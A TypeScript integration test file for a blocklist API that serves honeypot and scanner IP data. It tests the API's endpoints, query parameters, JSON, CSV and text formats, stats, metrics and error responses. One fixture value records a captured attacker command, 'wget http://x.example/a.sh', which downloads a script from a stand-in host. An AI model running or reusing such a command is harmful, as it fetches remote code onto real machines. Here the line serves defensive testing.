// Every endpoint, every parameter (accepted and rejected values), every format, against real data in a real
// PostgreSQL through a real socket.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TSchema } from 'typebox';
import { DedupParams, ExportParams, HoneypotDedupParams, HoneypotRecentParams, HoneypotStatsParams, RecentParams, ScanExportParams, StatsParams } from '../../../../api-server/query/endpoint-params.ts';
import { allowedValues, describeAllowed, type JsonSchemaLike } from '../../../../api-server/schema-text.ts';
import { RECORD_FIELDS } from '../../../../api-server/render/records.ts';
import { startApi, type TestApi } from '../../../support/api-server.ts';
import type { TestDatabase } from '../../../support/db.ts';
import { getWithKey, startFixtureApi, stopFixtureApi } from '../../../support/api-fixture-set.ts';

let db: TestDatabase;
let api: TestApi;
let key: string;

beforeAll(async () => {
  ({ db, api, key } = await startFixtureApi('endpoint tests'));
});
afterAll(() => stopFixtureApi(db, api));

const get = (path: string, headers?: Record<string, string>) => getWithKey(api, key, path, headers);

async function lines(path: string): Promise<string[]> {
  const res = await get(path);
  const body = await res.text();
  expect(res.status, `${path}: ${body}`).toBe(200);
  return body.split('\n').filter((l) => l !== '');
}

interface Problem {
  type: string;
  title: string;
  status: number;
  detail: string;
  errors?: { name: string; reason: string; allowed: string }[];
}

describe('list contents (txt, sorted by address)', () => {
  it.each([
    ['/api/dedup', ['192.0.2.50', '198.51.100.10', '203.0.113.20', '203.0.113.30']],
    ['/api/dedup?include_scan=0', ['203.0.113.20']],
    ['/api/dedup?include_research=1', ['192.0.2.40', '192.0.2.50', '198.51.100.10', '203.0.113.20', '203.0.113.30']],
    ['/api/dedup?hours=168&include_scan=0', ['203.0.113.20', '203.0.113.30']],
    ['/api/honeypot/dedup', ['192.0.2.50', '198.51.100.10', '203.0.113.20', '203.0.113.30']],
    ['/api/export', ['192.0.2.50', '198.51.100.10', '203.0.113.20', '203.0.113.30']],
    ['/api/export?type=attacker', ['203.0.113.20']],
    ['/api/export?type=attacker&hours=48', ['203.0.113.20', '203.0.113.30']],
    ['/api/export?type=scanner', ['198.51.100.10', '203.0.113.30']],
    ['/api/export?type=research_scanner', ['192.0.2.40']],
    ['/api/export?type=asset_scanner', ['192.0.2.50']],
    ['/api/export?source=honeypot', ['203.0.113.20']],
    ['/api/export?source=telescope', ['192.0.2.50', '198.51.100.10', '203.0.113.30']],
    ['/api/export?service=ssh', ['203.0.113.20']],
    ['/api/export?service=web', ['198.51.100.10']],
    ['/api/export?service=rdp&hours=48', ['203.0.113.30']],
    ['/api/export?level=critical', ['203.0.113.20']],
    ['/api/export?level=high', ['203.0.113.20']],
    ['/api/export?level=high&hours=48', ['203.0.113.20', '203.0.113.30']],
    ['/api/export?level=medium', ['192.0.2.50', '198.51.100.10', '203.0.113.20', '203.0.113.30']],
    ['/api/export?precision=high', ['203.0.113.20']],
    ['/api/export?precision=high&hours=48', ['203.0.113.20', '203.0.113.30']],
    ['/api/export?net=idc', ['192.0.2.50', '198.51.100.10']],
    ['/api/export?isp=%E7%94%B5%E4%BF%A1', ['203.0.113.20']],
    ['/api/export?province=%E5%B9%BF%E4%B8%9C', ['203.0.113.20']],
    ['/api/export?province=%E5%B9%BF%E4%B8%9C%E7%9C%81', ['203.0.113.20']],
    ['/api/export?province=%E5%8C%97%E4%BA%AC&hours=48', ['203.0.113.30']],
    ['/api/export?hours=720', ['192.0.2.50', '198.51.100.10', '203.0.113.20', '203.0.113.30', '2001:db8::1']],
    ['/api/export?hours=720&type=attacker&level=high', ['203.0.113.20', '203.0.113.30', '2001:db8::1']],
    ['/api/export?hours=720&include_research=1&net=idc', ['192.0.2.40', '192.0.2.50', '198.51.100.10']],
    ['/api/scan-export', ['192.0.2.50', '198.51.100.10', '203.0.113.30']],
    ['/api/scan-export?include_research=1', ['192.0.2.40', '192.0.2.50', '198.51.100.10', '203.0.113.30']],
    ['/api/scan-export?level=critical', []],
  ])('%s', async (path, expected) => {
    expect(await lines(path)).toEqual(expected);
  });
});

describe('formats', () => {
  it('json: the envelope and full records', async () => {
    const res = await get('/api/export?format=json&hours=48&type=attacker');
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    const doc = (await res.json()) as { generated_at: string; window_hours: number; count: number; truncated: boolean; data: Record<string, unknown>[] };
    expect(Object.keys(doc)).toEqual(['generated_at', 'window_hours', 'count', 'truncated', 'data']);
    expect(doc.window_hours).toBe(48);
    expect(doc.count).toBe(2);
    expect(doc.truncated).toBe(false);
    expect(doc.data.map((r) => Object.keys(r))).toEqual([[...RECORD_FIELDS], [...RECORD_FIELDS]]);
    expect(doc.data[0]).toMatchObject({
      ip: '203.0.113.20', attacks: 40, type: 'attacker', level: 'critical', precision: 'high', sources: ['honeypot'],
      services: ['ssh'], ports: [22], country: 'CN', province: '广东省', isp: '电信', net: 'broadband', asn: 4134,
    });
    expect(doc.data[0]?.last_seen).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
    expect(doc.data[1]).toMatchObject({ ip: '203.0.113.30', level: 'high', precision: 'high', sources: ['honeypot', 'telescope'], services: ['ssh', 'rdp'], ports: [22, 3389] });
  });

  it('json of an empty list', async () => {
    const doc = (await (await get('/api/scan-export?level=critical&format=json')).json()) as { count: number; data: unknown[] };
    expect(doc).toMatchObject({ count: 0, data: [] });
  });

  it('csv: RFC 4180 with a header row, lists joined by ;', async () => {
    const res = await get('/api/export?format=csv&hours=48&type=attacker');
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const text = await res.text();
    const rows = text.split('\r\n');
    expect(rows[0]).toBe(RECORD_FIELDS.join(','));
    expect(rows[2]).toMatch(/^203\.0\.113\.30,[^,]+,[^,]+,7,attacker,high,high,honeypot;telescope,ssh;rdp,22;3389,CN,北京市,联通,edu,4538$/);
    expect(rows.at(-1)).toBe('');
    expect(rows).toHaveLength(4);
  });

  it('txt: one address a line, nothing else', async () => {
    const res = await get('/api/scan-export');
    expect(res.headers.get('content-type')).toMatch(/^text\/plain/);
    expect(await res.text()).toBe('192.0.2.50\n198.51.100.10\n203.0.113.30\n');
  });

  it('download=1 names the file', async () => {
    const res = await get('/api/export?download=1&hours=72&format=csv');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="blockfeed-export-72h-\d{4}-\d\d-\d\d\.csv"$/);
    expect((await get('/api/export?hours=72')).headers.get('content-disposition')).toBeNull();
  });

  it('export says whether it was truncated', async () => {
    expect((await get('/api/export')).headers.get('x-blocklist-truncated')).toBe('false');
  });
});

describe('stats and recent', () => {
  for (const path of ['/api/stats', '/api/honeypot/stats']) {
    it(`${path}: totals, top countries and ports`, async () => {
      const res = await get(path);
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
      const doc = (await res.json()) as Record<string, unknown>;
      expect(Object.keys(doc)).toEqual(['generated_at', 'window_hours', 'total_attacks', 'unique_ips', 'top_countries', 'top_ports']);
      // Inside 24 h: .10 (3), .20 (40), .30 (7, its last hour), .40 (1), .50 (1).
      expect(doc).toMatchObject({ window_hours: 24, total_attacks: 52, unique_ips: 5 });
      expect(doc.top_countries).toEqual([
        { country: 'CN', attacks: 48, ips: 3 },
        { country: 'US', attacks: 4, ips: 2 },
      ]);
      expect((doc.top_ports as { port: number }[]).map((p) => p.port)).toEqual([22, 80, 443, 8443]);
    });
  }

  it('the key API\'s recent: newest first, no command; research platforms left out', async () => {
    const doc = (await (await get('/api/recent?limit=2')).json()) as { count: number; data: Record<string, unknown>[] };
    expect(doc.count).toBe(2);
    expect(doc.data[0]).toEqual({ ts: expect.any(String) as string, ip: '203.0.113.20', country: 'CN', port: 22, service: 'ssh', source: 'honeypot' });
    expect(doc.data[1]?.ip).toBe('198.51.100.10');
    const all = (await (await get('/api/recent')).json()) as { data: { ip: string }[] };
    expect(all.data.map((e) => e.ip)).not.toContain('192.0.2.40');
    expect(all.data).toHaveLength(5);
  });

  it('the token API\'s recent carries the command; csv and txt', async () => {
    const doc = (await (await get('/api/honeypot/recent?limit=1')).json()) as { data: Record<string, unknown>[] };
    expect(doc.data[0]).toMatchObject({ ip: '203.0.113.20', command: 'wget http://x.example/a.sh' });
    const csv = await (await get('/api/honeypot/recent?limit=1&format=csv')).text();
    expect(csv).toBe(`ts,ip,country,port,service,source,command\r\n${String(doc.data[0]?.ts)},203.0.113.20,CN,22,ssh,honeypot,wget http://x.example/a.sh\r\n`);
    expect(await (await get('/api/recent?limit=2&format=txt')).text()).toBe('203.0.113.20\n198.51.100.10\n');
  });
});

const ENDPOINTS: [string, { properties: Record<string, TSchema> }][] = [
  ['/api/dedup', DedupParams],
  ['/api/export', ExportParams],
  ['/api/scan-export', ScanExportParams],
  ['/api/stats', StatsParams],
  ['/api/recent', RecentParams],
  ['/api/honeypot/dedup', HoneypotDedupParams],
  ['/api/honeypot/stats', HoneypotStatsParams],
  ['/api/honeypot/recent', HoneypotRecentParams],
];

function properties(schema: { properties: Record<string, TSchema> }): [string, JsonSchemaLike][] {
  return Object.entries(schema.properties)
    .filter(([name]) => name !== 'key')
    .map(([name, s]) => [name, s as unknown as JsonSchemaLike]);
}

/** Values a parameter accepts: each enum member, or the bounds and a middle of a range. */
function accepted(s: JsonSchemaLike): string[] {
  const values = allowedValues(s);
  if (values) return values.map(String);
  return [String(s.minimum), String(s.maximum), String(Math.floor(((s.minimum ?? 0) + (s.maximum ?? 0)) / 2))];
}

function rejected(s: JsonSchemaLike): string[] {
  if (allowedValues(s)) return ['bogus', ''];
  return [String((s.minimum ?? 0) - 1), String((s.maximum ?? 0) + 1), 'abc', '1.5'];
}

describe('every parameter', () => {
  for (const [path, schema] of ENDPOINTS) {
    for (const [name, s] of properties(schema)) {
      it(`${path} ${name}: accepts ${describeAllowed(s)}`, async () => {
        for (const value of accepted(s)) {
          const res = await get(`${path}?${name}=${encodeURIComponent(value)}`);
          expect(res.status, `${name}=${value}: ${await res.clone().text()}`).toBe(200);
          await res.arrayBuffer();
        }
      });
      it(`${path} ${name}: rejects other values with 400 naming it`, async () => {
        for (const value of rejected(s)) {
          const res = await get(`${path}?${name}=${encodeURIComponent(value)}`);
          expect(res.status).toBe(400);
          expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
          const problem = (await res.json()) as Problem;
          expect(problem).toMatchObject({ status: 400, title: 'Invalid query parameter' });
          expect(problem.errors).toEqual([{ name, reason: expect.any(String) as string, allowed: describeAllowed(s) }]);
        }
      });
    }
    it(`${path}: an unknown or repeated parameter is a 400`, async () => {
      const unknown = (await (await get(`${path}?hour=24`)).json()) as Problem;
      expect(unknown.errors?.[0]).toMatchObject({ name: 'hour', reason: 'unknown parameter' });
      const twice = (await (await get(`${path}?format=json&format=txt`)).json()) as Problem;
      expect(twice.errors?.[0]).toMatchObject({ name: 'format', reason: 'given more than once' });
    });
  }

  it('reports every bad parameter at once', async () => {
    const problem = (await (await get('/api/export?hours=0&type=x&isp=%E5%B9%BF')).json()) as Problem;
    expect(problem.errors?.map((e) => e.name)).toEqual(['hours', 'type', 'isp']);
    expect(problem.errors?.[2]?.allowed).toBe('one of: 电信, 联通, 移动');
  });

  it('the dedup endpoints stop at 168 hours, the exports at 720', async () => {
    expect((await get('/api/dedup?hours=169')).status).toBe(400);
    expect((await get('/api/honeypot/dedup?hours=169')).status).toBe(400);
    expect((await get('/api/export?hours=720')).status).toBe(200);
    expect((await get('/api/scan-export?hours=721')).status).toBe(400);
  });
});

describe('around the endpoints', () => {
  it('/openapi.json documents every endpoint with its parameters', async () => {
    const doc = (await (await fetch(`${api.base}/openapi.json`)).json()) as {
      info: { description: string };
      tags: { name: string }[];
      paths: Record<string, { get: { tags: string[]; parameters: { name: string; required?: boolean; schema: JsonSchemaLike }[] } }>;
    };
    // The check's parameters are tested with the check (test/integration/api-server/http/check.test.ts).
    expect(Object.keys(doc.paths).sort()).toEqual([...ENDPOINTS.map(([p]) => p), '/api/check', '/api/honeypot/check'].sort());
    // Users know the two APIs by what they are: the token API under /api/honeypot/, the key API under /api/.
    expect(doc.tags.map((t) => t.name)).toEqual(['Token API', 'Key API']);
    for (const [path, { get }] of Object.entries(doc.paths)) expect(get.tags, path).toEqual([path.startsWith('/api/honeypot/') ? 'Token API' : 'Key API']);
    expect(JSON.stringify(doc)).not.toMatch(/variant/i);
    const exportParams = doc.paths['/api/export']?.get.parameters ?? [];
    // `key` is documented as the apiKeyQuery security scheme rather than as a parameter.
    expect(exportParams.map((p) => p.name)).toEqual([...Object.keys(ExportParams.properties).filter((k) => k !== 'key'), 'wait']);
    expect(exportParams.find((p) => p.name === 'service')?.schema.enum).toContain('proxy');
    // Every parameter may be left out (its default applies).
    expect(exportParams.filter((p) => p.required).map((p) => p.name)).toEqual([]);
  });

  it('an unknown path is a problem+json 404', async () => {
    const res = await get('/api/nope');
    expect(res.status).toBe(404);
    expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  });

  it('/metrics has request durations, cache lookups and limit rejections', async () => {
    const text = await (await fetch(`${api.base}/metrics`)).text();
    expect(text).toMatch(/^blockfeed_http_request_duration_seconds_bucket\{.*route="\/api\/export".*\} \d+/m);
    expect(text).toMatch(/^blockfeed_response_cache_lookups_total\{endpoint="export",result="hit"\} [1-9]/m);
    expect(text).toMatch(/^# TYPE blockfeed_rate_limit_rejections_total counter/m);
  });
});

describe('store unavailable', () => {
  it('answers 503 with Retry-After', async () => {
    const down = await startApi('postgres://nobody:x@127.0.0.1:1/none');
    try {
      const res = await fetch(`${down.base}/api/stats`);
      expect(res.status).toBe(503);
      expect(res.headers.get('retry-after')).toBe('5');
      expect(((await res.json()) as Problem).type).toBe('urn:blockfeed:problem:store-unavailable');
    } finally {
      await down.close();
    }
  });
});
